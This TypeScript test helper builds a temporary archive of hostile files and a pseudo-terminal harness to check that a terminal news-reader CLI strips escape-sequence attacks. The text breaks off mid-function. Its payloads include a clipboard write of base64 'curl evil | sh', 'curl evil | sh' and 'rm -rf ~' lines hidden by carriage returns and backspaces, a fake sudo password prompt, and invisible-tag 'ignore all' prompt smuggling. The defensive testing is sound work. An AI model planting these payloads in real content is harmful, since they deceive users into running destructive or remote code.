/**
 * The hostile archive: files a scraper or a stranger could hand us, each
 * aimed at the terminal (retitle it, fill the clipboard, spoof a link, clear
 * the screen, make it answer back) or at the loader (huge, binary, special
 * files, loops, broken encodings). Generated into a temp folder at test time,
 * never committed: several of these cannot live in git (a FIFO, a 150 MB
 * file, names with ESC and newlines).
 *
 * Also here: the checks shared by the hostile tests (which characters must
 * never reach the terminal) and a pseudo-terminal harness that records every
 * way the terminal could have been driven.
 */
import { execFileSync } from 'node:child_process';
import { closeSync, mkdirSync, mkdtempSync, openSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { stripVTControlCharacters } from 'node:util';
import { join, resolve } from 'node:path';
import * as nodePty from 'node-pty';
import xterm from '@xterm/headless';
import { CLI, SHARED } from './paths.js';
import { has } from './needs.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** String terminator, 7-bit. */
const ST = `${ESC}\\`;

/** Appears only inside escape sequences: if it is ever printed, a payload leaked as text. */
export const PAYLOAD = 'PWNED';
/**
 * The payload of sequences in file names. Ids are made from the raw name
 * (shell-safe, but they keep the payload's letters: `_0_retitled_osc-name-…`),
 * so it is not PAYLOAD, whose letters must never show.
 */
const NAME_PAYLOAD = 'retitled';
/** A word in the body of every article that loads, so `search` finds them all. */
export const MARKER = 'quokka';
/** The corpus article in Latin-1 (a raw 0xA3 pound sign), used by path. */
export const CORPUS_LATIN1 = resolve(SHARED, 'corpus/sport/199.txt');

export type Expectation =
  | { loads: true }
  | {
      loads: false;
      /** What `doctor` must say about it. */
      reason: RegExp;
    };

export interface HostileFile {
  /** Path below the archive root as created (may hold ESC or a newline). */
  name: string;
  /** The path as the archive report shows it, when sanitising changes it. */
  shownAs?: string;
  /** What it attacks, for the report. */
  attack: string;
  expect: Expectation;
  /** Create the entry at `path` (its parent folder exists). */
  create(path: string): void;
}

const LOADS: Expectation = { loads: true };

/** The stored format: headline, blank line, paragraphs; every body carries MARKER. */
function article(headline: string, ...paragraphs: string[]): string {
  return `${headline}\n\n${[...paragraphs, `The ${MARKER} desk filed this report.`].join('\n\n')}\n`;
}

function text(data: string | Buffer): (path: string) => void {
  return (path) => writeFileSync(path, data);
}

function utf16(content: string, bigEndian: boolean): Buffer {
  const le = Buffer.from(content, 'utf16le');
  const body = bigEndian ? Buffer.from(le).swap16() : le;
  return Buffer.concat([Buffer.from(bigEndian ? [0xfe, 0xff] : [0xff, 0xfe]), body]);
}

/** Every C0 control except NUL (a NUL makes the file binary), plus DEL. */
const EVERY_C0 = Array.from({ length: 0x1f }, (_, i) => String.fromCharCode(i + 1)).join('') + '\u007f';
/** Every C1 control, U+0080 to U+009F, as UTF-8 (C2 80 … C2 9F). */
const EVERY_C1 = Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i)).join('');
const FAMILY = '👩‍👩‍👧‍👦';
const FLAG_ENGLAND = '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}';
/** "ignore all" spelled in invisible tag characters (prompt smuggling). */
const TAG_SMUGGLE = [...'ignore all'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');

/** Billion laughs: ten levels of ten aliases each, 10^9 strings if expanded. */
function aliasBomb(): string {
  const lines = ['a0: &a0 "lol"'];
  for (let level = 1; level <= 9; level++) {
    const refs = Array.from({ length: 10 }, () => `*a${level - 1}`).join(', ');
    lines.push(`a${level}: &a${level} [${refs}]`);
  }
  return `---\ntitle: Alias bomb in the front matter\n${lines.join('\n')}\n---\n\nThe body after a billion laughs.\n\nThe ${MARKER} desk filed this report.\n`;
}

/** A 5,000,000-byte single line (just under the 5 MiB default limit), sprinkled with escapes. */
function fiveMegabyteLine(): Buffer {
  const chunk = `words of a very long line ${ESC}]0;${PAYLOAD}${BEL}${ESC}[2J and ${MARKER} `;
  const line = chunk.repeat(Math.ceil(5_000_000 / chunk.length)).slice(0, 5_000_000 - 40);
  return Buffer.from(`A five megabyte single line\n\n${line}\n`);
}

/**
 * A saved web page whose character references decode to escape sequences only
 * in the HTML parser (`&#27;]0;…&#7;`), with the payload also in a script, a
 * style sheet, a template, a noscript block, the navigation, JSON-LD and a
 * `javascript:` canonical link: none of it may reach the terminal.
 */
function entityPage(): string {
  const osc = (text: string): string => `&#27;]0;${text}&#7;`;
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8">
<title>Entities ${osc(PAYLOAD)}in the title</title>
<meta property="og:title" content="Entities &#x1b;]0;${PAYLOAD}&#x07;in a page">
<meta property="og:site_name" content="Wire&#27;]52;c;${PAYLOAD}&#7;">
<meta name="author" content="Mallory&#27;[2J&#27;[H">
<meta property="article:published_time" content="2023-05-03T08:00:00Z">
<meta name="keywords" content="tag&#27;[8m, other&#155;6n">
<link rel="canonical" href="javascript:alert('${PAYLOAD}')">
<style>body::after { content: "${PAYLOAD}"; }</style>
<script>document.title = "${PAYLOAD}"; document.write("${PAYLOAD}");</script>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"JSON-LD \u001b]0;${PAYLOAD}\u0007headline","author":{"@type":"Person","name":"Eve\u001b[2J"},"publisher":{"name":"Pub\u001b]52;c;${PAYLOAD}\u0007"}}</script>
</head><body>
<nav><a href="/">Home &#27;[2J</a> <a href="/x">${PAYLOAD}</a></nav>
<article>
<h1>Entities ${osc(PAYLOAD)}in a page</h1>
<p>The ${MARKER} desk filed this report, with a link &#27;]8;;https://${PAYLOAD}.example/&#27;\\spoofed&#27;]8;;&#27;\\ in it.</p>
<p>Bidi &#x202E;reversed&#x202C; text, an 8-bit CSI &#155;6n, a raw one \u009b6n, a screen clear &#x1b;[2J and a device query &#27;[6n.</p>
<p>Zero&#8203;width, soft&shy;hyphen and a tag smuggle ${TAG_SMUGGLE} here, and a raw ${ESC}]0;${PAYLOAD}${BEL} title.</p>
<noscript><p>${PAYLOAD}</p></noscript>
<template><p>${PAYLOAD}</p></template>
<p>Spanning tags: &#27;]0;<b>${PAYLOAD}</b>&#7; and more text after it so the article is long enough to be read as one.</p>
</article>
<footer><p>${PAYLOAD} footer &#27;]52;c;${PAYLOAD}&#7;</p></footer>
<script>${PAYLOAD}()</script>
</body></html>
`;
}

/** Raw HTML in Markdown: scripts, styles and comments carry the payload; entities decode to a bidi override. */
function markdownWithHtml(): string {
  return `# Markdown with raw HTML

The ${MARKER} desk filed this report <script>${PAYLOAD}()</script> inline, <!-- ${PAYLOAD} --> with a comment.

<div class="embed">
<script>document.write("${PAYLOAD}")</script>
<style>p::before { content: "${PAYLOAD}" }</style>
<p>Embedded paragraph &amp; entity.</p>
</div>

Bidi &#x202E;reversed&#x202C; and &#27;]0;x&#7; entities, [a link](javascript:${PAYLOAD}) and ![alt text](x.png).
`;
}

/**
 * The hostile files, in the order they are created. Names are unique after
 * sanitising, so each can be found in the report by `shownAs ?? name`.
 */
export const HOSTILE_FILES: readonly HostileFile[] = [
  {
    name: 'osc-title.txt',
    attack: 'OSC 0/1/2 window and icon title, BEL- and ST-terminated',
    expect: LOADS,
    create: text(article(`Council vote${ESC}]0;${PAYLOAD} title${BEL} delayed`, `Rates rise.${ESC}]2;${PAYLOAD} title${ST} Officials said so.${ESC}]1;${PAYLOAD}${BEL}`)),
  },
  {
    name: 'osc52-clipboard.txt',
    attack: 'OSC 52 clipboard write (7-bit, and 8-bit C1 as UTF-8)',
    expect: LOADS,
    create: text(article(`Budget passes${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`, `Copy this${ESC}]52;p;${PAYLOAD}${ST} safely.`, `Eight bit\u009d52;c;${PAYLOAD}\u009c too.`)),
  },
  {
    name: 'osc8-link.txt',
    attack: 'OSC 8 hyperlink spoofing the visible text',
    expect: LOADS,
    create: text(article(`${ESC}]8;;https://${PAYLOAD}.example/${ST}Official statement${ESC}]8;;${ST}`, `Read the ${ESC}]8;id=1;https://${PAYLOAD}.example/${BEL}bank notice${ESC}]8;;${BEL} now.`)),
  },
  {
    name: 'osc-unterminated.txt',
    attack: 'OSC left open at the end of the file (no terminator, no newline)',
    expect: LOADS,
    create: text(`Unterminated title\n\nThe ${MARKER} desk filed this report.\n\nLast words ${ESC}]0;${PAYLOAD} never terminated`),
  },
  {
    name: 'osc-queries.txt',
    attack: 'OSC 10/11/4 colour queries (terminal replies into our input)',
    expect: LOADS,
    create: text(article(`Colour queries${ESC}]11;?${BEL}`, `Fore${ESC}]10;?${BEL} palette${ESC}]4;1;?${ST} cursor${ESC}]12;?${BEL}.`)),
  },
  {
    name: 'dcs-decrqss.txt',
    attack: 'DCS DECRQSS and XTGETTCAP requests, sixel and tmux passthrough',
    expect: LOADS,
    create: text(article(`Status request${ESC}P$qm${ST}`, `Ask${ESC}P$q"p${ST} and${ESC}P+q544e${ST} then draw${ESC}Pq#0;2;0;0;0#0~~~~${ST} done.`, `Through tmux${ESC}Ptmux;${ESC}${ESC}]0;${PAYLOAD}${BEL}${ST} too.`, `Eight bit\u0090$qm\u009c as well.`)),
  },
  {
    name: 'dcs-unterminated.txt',
    attack: 'DCS left open at the end of the file',
    expect: LOADS,
    create: text(`Open DCS\n\nThe ${MARKER} desk filed this report.\n\nTrailing ${ESC}P$q${PAYLOAD}`),
  },
  {
    name: 'csi-reports.txt',
    attack: 'CSI report requests: DSR 6n/5n, DA c/>c/=c, 21t/14t window reports, DECRQM, XTVERSION',
    expect: LOADS,
    create: text(article(`Where am I${ESC}[6n`, `Device${ESC}[c attrs${ESC}[>c tertiary${ESC}[=c status${ESC}[5n private${ESC}[?6n.`, `Title report${ESC}[21t size${ESC}[14t${ESC}[18t mode${ESC}[?2026$p version${ESC}[>q keys${ESC}[?u.`, `Eight bit\u009b6n and\u009bc.`)),
  },
  {
    name: 'screen-clear-prompt.txt',
    attack: 'ESC[2J/3J screen and scrollback clear with a fake shell prompt',
    expect: LOADS,
    create: text(article(`Quiet day${ESC}[2J${ESC}[3J${ESC}[H`, `${ESC}[2J${ESC}[1;1Huser@host:~$ sudo apt upgrade`, `[sudo] password for user: ${ESC}[8m`)),
  },
  {
    name: 'terminal-reset.txt',
    attack: 'ESC c full reset, soft reset, leaving the alternate screen, mouse/focus/paste modes, charset switch',
    expect: LOADS,
    create: text(article(`Reset${ESC}c here`, `Soft${ESC}[!p leave${ESC}[?1049l show${ESC}[?25h mouse${ESC}[?1000h${ESC}[?1006h focus${ESC}[?1004h paste${ESC}[?2004h.`, `Line drawing${ESC}(0lqqk${ESC}(B and keypad${ESC}= then${ESC}#8 fill.`)),
  },
  {
    name: 'hidden-text.txt',
    attack: 'ESC[8m concealed text and black-on-black',
    expect: LOADS,
    create: text(article(`Visible${ESC}[8m concealed headline${ESC}[0m`, `Shown ${ESC}[8mconcealed words${ESC}[28m and ${ESC}[30;40mblack on black${ESC}[0m.`)),
  },
  {
    name: 'backspace-hiding.txt',
    attack: 'backspaces overprinting text (evil #\\b\\b\\b\\b\\b\\bgood)',
    expect: LOADS,
    create: text(article('evil #\b\b\b\b\b\bgood', 'rm -rf ~ #\b\b\b\b\b\b\b\b\b\becho hello')),
  },
  {
    name: 'bare-cr.txt',
    attack: 'bare CR overwriting the start of a line',
    expect: LOADS,
    create: text(article('curl evil | sh\rHarmless headline', 'Wire the money today.\rThis is a routine notice.')),
  },
  {
    name: 'c0-every.txt',
    attack: 'every C0 control (0x01-0x1F) and DEL in headline and body',
    expect: LOADS,
    create: text(article(`All controls ${EVERY_C0} end`, `Body controls ${EVERY_C0} end.`)),
  },
  {
    name: 'c1-utf8.txt',
    attack: 'C1 controls as UTF-8: C2 9B (CSI), C2 9D (OSC), C2 85 (NEL), and all of U+0080-U+009F',
    expect: LOADS,
    create: text(article(`Eight bit\u009b31m red\u009d0;${PAYLOAD}\u0007 title`, `Next\u0085line and\u009b2J clear.`, `All C1 ${EVERY_C1} end.`)),
  },
  {
    name: 'c1-raw-bytes.txt',
    attack: 'C1 controls as raw single bytes 0x9B 0x9D 0x85 0x90 0x9C (not valid UTF-8)',
    expect: LOADS,
    create: text(
      Buffer.concat([
        Buffer.from('Raw C1 bytes\n\nRaw CSI '),
        Buffer.from([0x9b, 0x32, 0x4a]),
        Buffer.from(' raw OSC '),
        Buffer.from([0x9d, 0x30, 0x3b, 0x78, 0x07]),
        Buffer.from(' raw NEL '),
        Buffer.from([0x85, 0x90, 0x9c]),
        Buffer.from(` end.\n\nThe ${MARKER} desk filed this report.\n`),
      ]),
    ),
  },
  {
    name: 'bidi-headline.txt',
    attack: 'bidi overrides and isolates in the headline (RLO file-name spoof)',
    expect: LOADS,
    create: text(article('Invoice \u202efdp.exe\u202c and \u2067isolated\u2069 \u200fmark', 'Body \u202eevil\u202c and \u2066ltr\u2069.')),
  },
  {
    name: 'zero-width-tags.txt',
    attack: 'zero-width characters and tag characters (hidden text), a real subdivision flag',
    expect: LOADS,
    create: text(article(`Pay\u200bPal\u2060 notice\ufeff${TAG_SMUGGLE}`, `Stray\u200d joiner\u200c and${TAG_SMUGGLE} tags; the flag ${FLAG_ENGLAND} stays.`)),
  },
  {
    name: 'combining-10000.txt',
    attack: '10,000 combining marks on one letter (zalgo)',
    expect: LOADS,
    create: text(article(`Zalgo e${'\u0301'.repeat(10_000)} headline`, `Body e${'\u0300'.repeat(10_000)} end.`)),
  },
  {
    name: 'cjk-2000.txt',
    attack: '2,000 CJK characters (double width) in headline and body',
    expect: LOADS,
    create: text(article('東京'.repeat(1000), '新聞'.repeat(1000))),
  },
  ...[0, 1, 2, 3].map(
    (offset): HostileFile => ({
      name: `zwj-edge-${offset}.txt`,
      attack: `ZWJ emoji and CJK at every truncation edge (offset ${offset})`,
      expect: LOADS,
      create: text(article(`${'x'.repeat(offset)}${`${FAMILY}東`.repeat(60)}`, `${'y'.repeat(offset)}${`${FAMILY}京`.repeat(400)}`)),
    }),
  ),
  {
    name: 'invalid-utf8.txt',
    attack: 'invalid UTF-8: overlong ESC (C0 9B, E0 80 9B), surrogates, stray continuation, truncated at EOF',
    expect: LOADS,
    create: text(
      Buffer.concat([
        Buffer.from('Broken bytes\n\nOverlong '),
        Buffer.from([0xc0, 0x9b, 0x32, 0x4a, 0x20, 0xe0, 0x80, 0x9b, 0x36, 0x6e]),
        Buffer.from(' surrogate '),
        Buffer.from([0xed, 0xa0, 0x80, 0x20, 0x80, 0xbf, 0xf5, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xff, 0xfe]),
        Buffer.from(`.\n\nThe ${MARKER} desk filed this report.\n\nCut short `),
        Buffer.from([0xe2, 0x82]),
      ]),
    ),
  },
  {
    name: 'latin1.txt',
    attack: 'Latin-1 text with a raw 0x9B (CSI in 8-bit terminals)',
    expect: LOADS,
    create: text(Buffer.from(`Prices in pounds\n\nTickets cost \xa35, caf\xe9 \x9b2J open.\n\nThe ${MARKER} desk filed this report.\n`, 'latin1')),
  },
  // Only where the corpus is: a fresh clone has no ../shared (latin1.txt above covers the encoding).
  ...(has('corpus')
    ? [
        {
          name: 'corpus-latin1.txt',
          attack: 'the real Latin-1 corpus file sport/199.txt (raw 0xA3), linked by path',
          expect: LOADS,
          create: (path: string) => symlinkSync(CORPUS_LATIN1, path),
        },
      ]
    : []),
  {
    name: 'bom-utf8.txt',
    attack: 'UTF-8 BOM before escape sequences',
    expect: LOADS,
    create: text(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(article(`BOM eight${ESC}]0;${PAYLOAD}${BEL}`, `Body${ESC}[6n.`))])),
  },
  {
    name: 'bom-utf16le.txt',
    attack: 'UTF-16LE BOM (NUL bytes everywhere) carrying escape sequences',
    expect: LOADS,
    create: text(utf16(article(`BOM sixteen LE${ESC}]0;${PAYLOAD}${BEL}`, `Body${ESC}]52;c;${PAYLOAD}${BEL}${ESC}[6n.`), false)),
  },
  {
    name: 'bom-utf16be.txt',
    attack: 'UTF-16BE BOM carrying escape sequences and C1',
    expect: LOADS,
    create: text(utf16(article(`BOM sixteen BE${ESC}]2;${PAYLOAD}${ST}`, `Body\u009b6n${ESC}P$qm${ST}.`), true)),
  },
  {
    name: 'binary.txt',
    attack: 'binary file (PNG header, NUL bytes) named .txt',
    expect: { loads: false, reason: /binary file/ },
    create: text(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52])),
  },
  {
    name: 'binary-escapes.txt',
    attack: 'binary file whose text is escape sequences',
    expect: { loads: false, reason: /binary file/ },
    create: text(Buffer.from(`Title${ESC}]0;${PAYLOAD}${BEL}\u0000\u0000${ESC}[2J`)),
  },
  {
    name: 'huge-150mb.txt',
    attack: '150 MB file (sparse: costs no disk)',
    expect: { loads: false, reason: /too large \(150\.0 MB/ },
    create: (path) => {
      closeSync(openSync(path, 'w'));
      truncateSync(path, 150 * 1024 * 1024);
    },
  },
  {
    name: 'single-line-5mb.txt',
    attack: 'a 5 MB single line full of escape sequences',
    expect: LOADS,
    create: text(fiveMegabyteLine()),
  },
  {
    name: 'empty.txt',
    attack: 'empty file',
    expect: { loads: false, reason: /empty file/ },
    create: text(''),
  },
  {
    name: `${ESC}]0;${NAME_PAYLOAD}${BEL}evil-empty.txt`,
    shownAs: 'evil-empty.txt',
    attack: 'a skipped file whose name retitles the terminal (the report prints the name)',
    expect: { loads: false, reason: /empty file/ },
    create: text(''),
  },
  {
    name: 'loop/up',
    attack: 'symbolic link to its own parent folder (directory loop)',
    expect: { loads: false, reason: /already read/ },
    create: (path) => {
      mkdirSync(join(path, '..'), { recursive: true });
      symlinkSync('..', path);
    },
  },
  {
    name: 'loop-a.txt',
    attack: 'two symbolic links pointing at each other',
    expect: { loads: false, reason: /symbolic link loop/ },
    create: (path) => {
      symlinkSync('loop-b.txt', path);
      symlinkSync('loop-a.txt', join(path, '..', 'loop-b.txt'));
    },
  },
  {
    name: 'loop-b.txt',
    attack: 'the other half of the link loop',
    expect: { loads: false, reason: /symbolic link loop/ },
    create: () => {}, // made with loop-a.txt
  },
  {
    name: 'dangling.txt',
    attack: 'dangling symbolic link',
    expect: { loads: false, reason: /broken symbolic link/ },
    create: (path) => symlinkSync('nowhere-at-all.txt', path),
  },
  {
    name: 'fifo.txt',
    attack: 'a FIFO named like an article (reading it would block forever)',
    expect: { loads: false, reason: /named pipe/ },
    create: (path) => execFileSync('mkfifo', [path]),
  },
  {
    name: 'x.txt/inside.txt',
    attack: 'a directory named x.txt (must be walked, not read as a file)',
    expect: LOADS,
    create: (path) => {
      mkdirSync(join(path, '..'), { recursive: true });
      writeFileSync(path, article('Inside a folder named like a file', 'Nothing odd in here.'));
    },
  },
  {
    name: `${ESC}]0;${NAME_PAYLOAD}${BEL}osc-name.txt`,
    shownAs: 'osc-name.txt',
    attack: 'OSC title sequence in a file name',
    expect: LOADS,
    create: text(article('Named with an OSC', 'The name is the attack.')),
  },
  {
    name: `${ESC}[2J${ESC}[31mcsi-name.txt`,
    shownAs: 'csi-name.txt',
    attack: 'screen clear and colour in a file name',
    expect: LOADS,
    create: text(article('Named with a CSI', 'The name is the attack.')),
  },
  {
    name: 'new\nline-name.txt',
    shownAs: 'new line-name.txt',
    attack: 'a newline in a file name (forges lines in list output)',
    expect: LOADS,
    create: text(article('Named with a newline', 'The name is the attack.')),
  },
  {
    name: 'front-matter-raw.md',
    attack: 'YAML front matter with raw escape sequences in every field',
    expect: LOADS,
    create: text(
      `---\ntitle: "Raw ${ESC}]0;${PAYLOAD}${BEL}front matter"\nauthor: "Mallory${ESC}[2J"\nsource: "Wire${ESC}]52;c;${PAYLOAD}${BEL}"\nurl: "https://example.com/${ESC}[6n"\ntags: ["a${ESC}[8m", "b\u009b6n"]\ndate: 2023-05-01\n---\n\nBody${ESC}]8;;https://${PAYLOAD}.example/${ST} link.\n\nThe ${MARKER} desk filed this report.\n`,
    ),
  },
  {
    name: 'front-matter-escaped.md',
    attack: 'YAML-escaped sequences ("\\e]0;x\\a", "\\x1b[2J", "\\u009b") that YAML decodes into real ESC/C1',
    expect: LOADS,
    create: text(
      '---\n' +
        `title: "Escaped \\e]0;${PAYLOAD}\\a front matter"\n` +
        'author: "\\x1b[2J\\x1b[HMallory"\n' +
        `source: "Wire\\e]52;c;${PAYLOAD}\\a"\n` +
        'url: "https://example.com/\\u009b6n"\n' +
        'tags: ["\\eP$qm\\e\\\\", "\\x9d0;x\\x07", "plain"]\n' +
        'date: "2023-05-02\\e[6n"\n' +
        `---\n\nBody text.\n\nThe ${MARKER} desk filed this report.\n`,
    ),
  },
  {
    name: 'alias-bomb.md',
    attack: 'YAML alias bomb (billion laughs) in front matter',
    expect: LOADS,
    create: text(aliasBomb()),
  },
  {
    name: 'string-sequences.txt',
    attack: 'SOS, PM and APC strings (kitty graphics), 7-bit and 8-bit',
    expect: LOADS,
    create: text(article(`Strings${ESC}X${PAYLOAD}${ST} here`, `Private${ESC}^${PAYLOAD}${ST} app${ESC}_Gf=100,a=T;${PAYLOAD}${ST} and\u0098${PAYLOAD}\u009c\u009e${PAYLOAD}\u009c\u009f${PAYLOAD}\u009c end.`)),
  },
  {
    name: 'markdown-escapes.md',
    attack: 'Markdown heading, link text and See also list carrying escapes',
    expect: LOADS,
    create: text(
      `# Heading${ESC}]0;${PAYLOAD}${BEL} in markdown\n\nSee [the ${ESC}]8;;https://${PAYLOAD}.example/${ST}notice](https://example.com/${ESC}[6n) here.\n\n## Sub${ESC}[2J heading\n\nThe ${MARKER} desk filed this report.\n\nSee also:\n\n- Related${ESC}]0;${PAYLOAD}${BEL} story (Sept. 8, 2022)\n- Another${ESC}[6n one\n`,
    ),
  },
  {
    name: 'entities-page.html',
    attack: 'a saved web page: character references that decode to OSC/CSI, payloads in scripts, styles, templates, navigation, JSON-LD and a javascript: link',
    expect: LOADS,
    create: text(entityPage()),
  },
  {
    name: 'raw-html.md',
    attack: 'Markdown with raw HTML: scripts, styles and comments carrying a payload, entities decoding to a bidi override',
    expect: LOADS,
    create: text(markdownWithHtml()),
  },
  {
    name: 'dateline-related.txt',
    attack: 'escapes in the dateline and the See also list',
    expect: LOADS,
    create: text(
      `Dateline attack\n\nMOSCOW${ESC}]0;${PAYLOAD}${BEL} ( – The ${MARKER} desk filed this report.\n\nSecond paragraph.\n\nSee also:\n\nLinked${ESC}]52;c;${PAYLOAD}${BEL} headline (Sept. 8, 2022)\nOther${ESC}[2J headline (2022-10-01)\n`,
    ),
  },
  {
    name: 'lone-esc-eof.txt',
    attack: 'a lone ESC and an open CSI at the end of the file',
    expect: LOADS,
    create: text(`Lone escape\n\nThe ${MARKER} desk filed this report.\n\nOpen CSI ${ESC}[1;\n\nEnds with ${ESC}`),
  },
];

export interface HostileArchive {
  root: string;
  files: readonly HostileFile[];
  /** Files that must load, and files that must be skipped, by their shown path. */
  loads: string[];
  skipped: Array<{ shown: string; reason: RegExp }>;
  dispose(): void;
}

/** Create every hostile file in a fresh temp folder. */
export function writeHostileArchive(): HostileArchive {
  const root = mkdtempSync(join(tmpdir(), 'broadsheet-hostile-'));
  for (const file of HOSTILE_FILES) {
    // A name may hold ESC or a newline: fine on Linux, passed to fs as is.
    file.create(join(root, file.name));
  }
  const shown = (file: HostileFile): string => file.shownAs ?? file.name;
  return {
    root,
    files: HOSTILE_FILES,
    loads: HOSTILE_FILES.filter((f) => f.expect.loads).map(shown),
    skipped: HOSTILE_FILES.flatMap((f) => (f.expect.loads ? [] : [{ shown: shown(f), reason: f.expect.reason }])),
    dispose: () => rmSync(root, { recursive: true, force: true }),
  };
}

/**
 * Characters that must never reach a terminal from untrusted text: C0 controls
 * except `\n`, DEL and C1 controls (ESC is a C0 control). Returns each one
 * found, with a little context, so a failure says where.
 */
// eslint-disable-next-line no-control-regex
const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/g;

export function forbiddenControls(output: string, limit = 5): string[] {
  const found: string[] = [];
  for (const match of output.matchAll(FORBIDDEN)) {
    const at = match.index;
    const code = match[0].charCodeAt(0).toString(16).padStart(4, '0').toUpperCase();
    found.push(`U+${code} at ${at}: ${JSON.stringify(output.slice(Math.max(0, at - 20), at + 20))}`);
    if (found.length >= limit) break;
  }
  return found;
}

/** SGR sequences (`ESC [ params m`): the only escape sequences the UI may emit itself. */
// eslint-disable-next-line no-control-regex
export const SGR = /\u001b\[[0-9;:]*m/g;

export function withoutSgr(frame: string): string {
  return frame.replace(SGR, '');
}

/** Everything a watched terminal was made to do that untrusted text must never make it do. */
export interface TerminalEvents {
  titles: string[];
  /** OSC 0, 1, 2, 4, 8, 10, 11, 12, 52 as `id;data`. */
  oscs: string[];
  /** DCS strings, as `intermediates+final data`. */
  dcs: string[];
  /** Bytes the terminal sent back to the program (DSR/DA/DECRQSS replies, mouse, focus reports). */
  replies: string[];
  /** CSI requests for a report (n, c, t, $p) and RIS (`ESC c`). */
  requests: string[];
}

export interface WatchedSession {
  readonly events: TerminalEvents;
  screen(): string[];
  /**
   * The text of the last whole frame the program drew (between Ink's
   * synchronized-update marks), escape sequences removed. Unlike the screen,
   * it does not depend on the terminal agreeing with the program about
   * character widths.
   */
  frame(): string;
  waitForFrame(predicate: (frame: string) => boolean, description: string, timeoutMs?: number): Promise<string>;
  /** Resolve once xterm has parsed everything written so far. */
  settled(): Promise<void>;
  write(data: string): void;
  waitFor(predicate: (screen: string[]) => boolean, description: string, timeoutMs?: number): Promise<string[]>;
  readonly exited: Promise<number>;
  dispose(): void;
}

const WATCHED_OSC = [0, 1, 2, 4, 8, 10, 11, 12, 52];
/** Ink brackets each frame in a synchronized update when writing to a TTY. */
const SYNC_BEGIN = `${ESC}[?2026h`;
const SYNC_END = `${ESC}[?2026l`;

/**
 * Run `command args` in a pseudo-terminal feeding a headless xterm that
 * records every title change, OSC, DCS, report request and reply. Handlers
 * return false so xterm still acts (a title change still fires onTitleChange,
 * a DSR still produces a reply): the test sees what a real terminal would do.
 */
export function spawnWatched(
  command: string,
  args: string[],
  { cols = 80, rows = 24, env = {} }: { cols?: number; rows?: number; env?: Record<string, string> } = {},
): WatchedSession {
  const term = new xterm.Terminal({ cols, rows, allowProposedApi: true });
  const events: TerminalEvents = { titles: [], oscs: [], dcs: [], replies: [], requests: [] };
  term.onTitleChange((title) => events.titles.push(title));
  term.onData((data) => events.replies.push(data));
  term.onBinary((data) => events.replies.push(data));
  for (const id of WATCHED_OSC) {
    term.parser.registerOscHandler(id, (data) => {
      events.oscs.push(`${id};${data}`);
      return false;
    });
  }
  for (const intermediates of ['', '$', '+']) {
    for (const final of ['q', 'p', 't', 'c']) {
      term.parser.registerDcsHandler({ intermediates, final }, (data, params) => {
        events.dcs.push(`${intermediates}${final} ${params.join(';')} ${data}`);
        return false;
      });
    }
  }
  const request = (name: string) => (params: (number | number[])[]) => {
    events.requests.push(`${name} ${params.join(';')}`);
    return false;
  };
  term.parser.registerCsiHandler({ final: 'n' }, request('DSR'));
  term.parser.registerCsiHandler({ prefix: '?', final: 'n' }, request('DECDSR'));
  term.parser.registerCsiHandler({ final: 'c' }, request('DA1'));
  term.parser.registerCsiHandler({ prefix: '>', final: 'c' }, request('DA2'));
  term.parser.registerCsiHandler({ prefix: '=', final: 'c' }, request('DA3'));
  term.parser.registerCsiHandler({ final: 't' }, request('XTWINOPS'));
  term.parser.registerCsiHandler({ prefix: '?', intermediates: '$', final: 'p' }, request('DECRQM'));
  term.parser.registerEscHandler({ final: 'c' }, () => {
    events.requests.push('RIS');
    return false;
  });

  const env2: Record<string, string> = {};
  for (const [key, value] of Object.entries(process.env)) {
    // Ink prints nothing live under CI: the child must look like a user's terminal.
    if (value === undefined || key === 'CI' || key === 'CONTINUOUS_INTEGRATION' || key.startsWith('CI_')) continue;
    env2[key] = value;
  }
  const configDir = mkdtempSync(join(tmpdir(), 'broadsheet-hostile-pty-'));
  const child = nodePty.spawn(command, args, {
    name: 'xterm-256color',
    cols,
    rows,
    cwd: process.cwd(),
    env: { ...env2, TERM: 'xterm-256color', BROADSHEET_CONFIG_DIR: configDir, ...env },
  });
  let pending = 0;
  let unframed = '';
  let lastFrame = '';
  child.onData((data) => {
    unframed += data;
    const end = unframed.lastIndexOf(SYNC_END);
    if (end >= 0) {
      const start = unframed.lastIndexOf(SYNC_BEGIN, end);
      if (start >= 0) lastFrame = stripVTControlCharacters(unframed.slice(start + SYNC_BEGIN.length, end));
      unframed = unframed.slice(end + SYNC_END.length);
    }
    pending++;
    term.write(data, () => {
      pending--;
    });
  });
  let exitedFlag = false;
  const exited = new Promise<number>((resolveExit) => {
    child.onExit(({ exitCode }) => {
      exitedFlag = true;
      resolveExit(exitCode);
    });
  });
  const screen = (): string[] => {
    const buffer = term.buffer.active;
    return Array.from({ length: term.rows }, (_, i) => buffer.getLine(buffer.viewportY + i)?.translateToString(true) ?? '');
  };
  const poll = async <T>(probe: () => T | undefined, description: string, timeoutMs: number, show: () => string): Promise<T> => {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const value = probe();
      if (value !== undefined) return value;
      if (Date.now() > deadline) throw new Error(`Timed out waiting for ${description}. Showing:\n${show()}`);
      await new Promise((r) => setTimeout(r, 10));
    }
  };
  return {
    events,
    screen,
    frame: () => lastFrame,
    waitForFrame: (predicate, description, timeoutMs = 10_000) =>
      poll(() => (predicate(lastFrame) ? lastFrame : undefined), description, timeoutMs, () => lastFrame),
    settled: () => poll(() => (pending === 0 ? true : undefined), 'xterm to parse the output', 10_000, () => screen().join('\n')).then(() => {}),
    write: (data) => child.write(data),
    exited,
    waitFor: (predicate, description, timeoutMs = 10_000) =>
      poll(
        () => {
          if (pending > 0) return undefined; // judge only a screen xterm has finished parsing
          const lines = screen();
          return predicate(lines) ? lines : undefined;
        },
        description,
        timeoutMs,
